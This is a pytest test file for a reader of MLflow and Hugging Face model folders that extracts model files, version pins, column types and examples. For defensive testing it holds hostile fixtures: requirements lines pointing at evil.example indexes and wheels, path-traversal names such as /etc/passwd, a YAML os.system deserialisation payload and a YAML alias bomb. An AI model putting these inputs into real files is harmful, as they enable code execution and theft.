"""Folders of MLflow and of Hugging Face are data: which file, which versions, which columns."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from matrix.upgrade.answer import Problem
from matrix.upgrade.model_folders import ModelFolder, read_folder

MLFLOW_2 = """\
artifact_path: model
flavors:
  python_function:
    env:
      conda: conda.yaml
      virtualenv: python_env.yaml
    loader_module: mlflow.sklearn
    model_path: model.pkl
    predict_fn: predict
    python_version: 3.11.7
  sklearn:
    code: null
    pickled_model: model.pkl
    serialization_format: cloudpickle
    sklearn_version: 1.3.2
mlflow_version: 2.9.2
saved_input_example_info:
  artifact_path: input_example.json
  pandas_orient: split
  type: dataframe
signature:
  inputs: '[{"type": "long", "name": "age"}, {"type": "double", "name": "income"},
    {"type": "string", "name": "city"}]'
  outputs: '[{"type": "tensor", "tensor-spec": {"dtype": "int64", "shape": [-1]}}]'
  params: null
utc_time_created: '2026-11-29 01:53:05.460606'
"""
"""As mlflow 2.9.2 wrote it."""

MLFLOW_1 = """\
flavors:
  python_function:
    env: conda.yaml
    loader_module: mlflow.sklearn
    model_path: model.pkl
    python_version: 3.8.18
  sklearn:
    pickled_model: model.pkl
    serialization_format: cloudpickle
    sklearn_version: 0.24.2
"""
CONDA = """\
channels:
- conda-forge
dependencies:
- python=3.8.18
- numpy=1.21.2=py38h1234
- pip
- pip:
  - mlflow
  - cloudpickle==3.1.3
  - scikit-learn==0.24.2
name: mlflow-env
"""
EXAMPLE = '{"columns": ["age", "income", "city"], "data": [[20, 1.0, "Rome"], [21, null, "Oslo"]]}'


def write(folder: Path, **files: str) -> ModelFolder | Problem | None:
    """Read a folder of these files, with ``_`` for the dots in their names."""
    for name, text in files.items():
        stem, _, ending = name.rpartition("_")
        (folder / (f"{stem}.{ending}" if stem else name)).write_text(text)
    return read_folder(folder, [one.name for one in folder.iterdir()])


def described(folder: Path, **files: str) -> ModelFolder:
    found = write(folder, **files)
    assert isinstance(found, ModelFolder), found
    return found


def test_a_folder_of_mlflow_2_says_file_versions_types_and_example(tmp_path: Path) -> None:
    requirements = "mlflow==2.9.2\nnumpy==1.26.4\nscikit-learn==1.3.2\n"
    found = described(
        tmp_path,
        MLmodel=MLFLOW_2,
        model_pkl="",
        conda_yaml=CONDA,
        requirements_txt=requirements,
        input_example_json=EXAMPLE,
    )
    assert found.file == tmp_path / "model.pkl"
    assert found.origin.scikit_learn == "1.3.2"
    assert found.origin.source == "requirements.txt"
    assert {"numpy==1.26.4", "mlflow==2.9.2"} <= set(found.origin.pins)
    assert found.types == {"age": "int64", "income": "float64", "city": "text"}
    assert found.example is not None
    assert found.example.columns == ("age", "income", "city")
    assert found.example.rows[1] == (21, None, "Oslo")


def test_a_folder_of_mlflow_1_takes_its_versions_from_conda(tmp_path: Path) -> None:
    found = described(tmp_path, MLmodel=MLFLOW_1, model_pkl="", conda_yaml=CONDA)
    assert (found.origin.python, found.origin.scikit_learn) == ("3.8", "0.24.2")
    assert found.origin.pins == ("cloudpickle==3.1.3", "numpy==1.21.2")
    assert (found.origin.source, found.types, found.example) == ("conda.yaml", {}, None)


@pytest.mark.parametrize("flavour", ["xgboost", "lightgbm", "catboost"])
def test_the_file_of_another_framework_is_named(tmp_path: Path, flavour: str) -> None:
    text = f"flavors:\n  python_function: {{data: m.bin}}\n  {flavour}: {{data: m.bin}}\n"
    assert described(tmp_path, MLmodel=text, m_bin="x").file == tmp_path / "m.bin"


HOSTILE = """\
numpy==1.26.4
-r ../secrets.txt
--index-url https://evil.example/simple
evil @ https://evil.example/evil.whl
./evil
-e .
evil>=1
numpy
evil==1.0 --hash=x
evil==1.0\x1b[2J
pandas[excel]==2.1.3 ; python_version > "3"
scipy===1.11.4  # why
"""


def test_of_requirements_only_exact_versions_count(tmp_path: Path) -> None:
    (tmp_path.parent / "secrets.txt").write_text("secret==1.0\n")
    found = described(tmp_path, MLmodel=MLFLOW_1, model_pkl="", requirements_txt=HOSTILE)
    assert found.origin.pins == ("numpy==1.26.4", "pandas==2.1.3", "scipy==1.11.4")


def test_a_repository_of_hugging_face_says_file_versions_and_example(tmp_path: Path) -> None:
    config = {
        "sklearn": {
            "columns": ["a", "b"],
            "environment": ["scikit-learn=1.3.2", "numpy=1.26.4", "python=3.10.12"],
            "example_input": {"a": [1.0, 2.0], "b": ["x", "y"]},
            "model": {"file": "model.skops"},
            "model_format": "skops",
            "task": "tabular-classification",
        }
    }
    found = described(tmp_path, config_json=json.dumps(config), model_skops="")
    assert found.file == tmp_path / "model.skops"
    assert (found.origin.scikit_learn, found.origin.python) == ("1.3.2", "3.10")
    assert found.example is not None
    assert found.example.rows == ((1.0, "x"), (2.0, "y"))


@pytest.mark.parametrize("text", ['{"model_type": "bert"}', "[]", '{"sklearn": 1}'])
def test_another_config_json_is_no_model_folder(tmp_path: Path, text: str) -> None:
    assert write(tmp_path, config_json=text, model_pkl="") is None


OUTSIDE = ["../out.pkl", "/etc/passwd", "link.pkl", "a\\..\\out.pkl", "missing.pkl", "sub"]


@pytest.mark.parametrize("name", OUTSIDE)
def test_a_model_outside_of_the_folder_is_refused(tmp_path: Path, name: str) -> None:
    folder = tmp_path / "model"
    folder.mkdir()
    (folder / "sub").mkdir()
    (tmp_path / "out.pkl").write_text("x")
    (folder / "link.pkl").symlink_to(tmp_path / "out.pkl")
    text = MLFLOW_1.replace("pickled_model: model.pkl", f"pickled_model: '{name}'")
    config = json.dumps({"sklearn": {"model": {"file": name}}})
    for files in ({"MLmodel": text}, {"config_json": config, "MLmodel": "a: ["}):
        found = write(folder, **files)
        assert isinstance(found, Problem)
        assert "cannot be read" in found.message
    (folder / "MLmodel").unlink()
    found = write(folder, config_json=config)
    assert isinstance(found, Problem)
    assert "it names" in found.message


@pytest.mark.parametrize("name", ["requirements.txt", "conda.yaml", "MLmodel"])
def test_a_link_to_a_file_outside_is_not_read(tmp_path: Path, name: str) -> None:
    folder = tmp_path / "model"
    folder.mkdir()
    (tmp_path / "secret").write_text("secret==1.0\n")
    (folder / "MLmodel").write_text(MLFLOW_1)
    (folder / "model.pkl").touch()
    (folder / name).unlink(missing_ok=True)
    (folder / name).symlink_to(tmp_path / "secret")
    found = read_folder(folder, ["MLmodel", name])
    assert isinstance(found, Problem)
    assert "secret" not in found.message.replace(str(tmp_path), "")


LAUGHS = "a: &a {k: v}\nb: &b\n  <<: [*a, *a]\nflavors: {sklearn: {pickled_model: model.pkl}}\n"


@pytest.mark.parametrize(
    "text",
    [
        "",
        "flavors: [1]",
        "flavors: {sklearn: {}}",
        "!!python/object/apply:os.system [exit 1]",
        LAUGHS,
        "[" * 50_000,
        "x" * 1_100_000,
        MLFLOW_2.replace('[{"type": "long"', "{["),
        "flavors: {sklearn: {pickled_model: model.pkl}}\nd: 2026-99-99\n",
    ],
)
def test_a_file_that_mlflow_did_not_write_is_a_problem(tmp_path: Path, text: str) -> None:
    found = write(tmp_path, MLmodel=text, model_pkl="")
    assert isinstance(found, Problem)
    assert "its MLmodel cannot be read" in found.message


def test_a_saved_model_of_tensorflow_is_one_answer_and_not_loaded(tmp_path: Path) -> None:
    found = write(tmp_path, saved_model_pb="")
    assert isinstance(found, Problem)
    assert "a SavedModel of TensorFlow" in found.message
    assert "model.keras" in found.advice


def test_a_flavour_that_is_not_read_is_named(tmp_path: Path) -> None:
    found = write(tmp_path, MLmodel="flavors: {python_function: {}, pytorch: {}}")
    assert isinstance(found, Problem)
    assert "an MLflow model with flavour pytorch" in found.message
    found = write(tmp_path, MLmodel="flavors: {python_function: {loader_module: x}}")
    assert isinstance(found, Problem)
    assert "code of its own" in found.message
